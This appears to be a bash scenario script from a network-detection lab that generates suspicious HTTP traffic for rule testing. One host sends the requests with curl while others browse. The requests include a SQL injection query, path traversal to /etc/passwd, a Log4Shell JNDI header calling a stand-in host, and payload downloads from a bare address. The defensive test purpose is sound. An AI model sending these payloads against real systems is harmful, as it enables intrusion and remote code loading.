# shellcheck shell=bash disable=SC2016,SC2034
TITLE='HTTP oddities that rules look at'
KIND=attack
ATTACKER=(10.20.1.66)
VICTIMS=(10.20.0.80 198.51.100.80 203.0.113.66)
NEEDS=(web intra proxy)
PROGRAMS=(curl tinyproxy nginx-light unbound nsd)
ORIGIN='pc66 sends HTTP requests with curl: user agents sqlmap/1.7, Nikto/2.5.0, python-requests/2.31.0 and none at all; Host header with a bare address; /.git/config, /wp-login.php, /../../etc/passwd, an encoded form of it, ?id=1 UNION SELECT, ${jndi:ldap://...} in a header; .exe and .ps1 downloads from a bare address; HTTP on port 8081; CONNECT and a plain request through the proxy on port 3128; TRACE and a very long URL; TLS on port 4444. pc11 to pc13 browse meanwhile. Times as recorded.'

ask() { on pc66 curl -sS -m 10 "$@" >/dev/null; }

attack() {
  local intra=http://intra.ministry.go.example
  ask -A 'sqlmap/1.7#stable (https://sqlmap.org)' "$intra/news/?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--"
  ask -A 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' "$intra/admin/"
  ask -A 'python-requests/2.31.0' "$intra/api/weather.json"
  ask -A '' "$intra/about.html"
  nap 300 900
  ask http://10.20.0.80/.git/config
  ask "$intra/wp-login.php"
  ask --path-as-is "$intra/../../etc/passwd"
  ask "$intra/img/%2e%2e%2f%2e%2e%2fetc%2fpasswd"
  # shellcheck disable=SC2016
  ask -H 'X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}' "$intra/"
  ask -X TRACE "$intra/"
  ask "$intra/$(printf 'A%.0s' {1..3000})"
  nap 300 900
  ask -A 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)' http://203.0.113.66/tools/setup.exe
  ask http://203.0.113.66/tools/update.ps1
  ask http://intra.ministry.go.example:8081/
  nap 300 900
  ask -x http://10.20.0.81:3128 https://www.bank.example/about.html
  ask -x http://10.20.0.81:3128 http://www.shop.example/about.html
  ask -p -x http://10.20.0.81:3128 http://www.shop.example:25/ || true # the proxy forbids this port
  ask -k https://203.0.113.66:4444/about.html
  ask --connect-to 'cdn.update-check.example:4444:203.0.113.66:4444' https://cdn.update-check.example:4444/style.css
}

scenario() { with_life 'pc11 pc12 pc13' attack; }
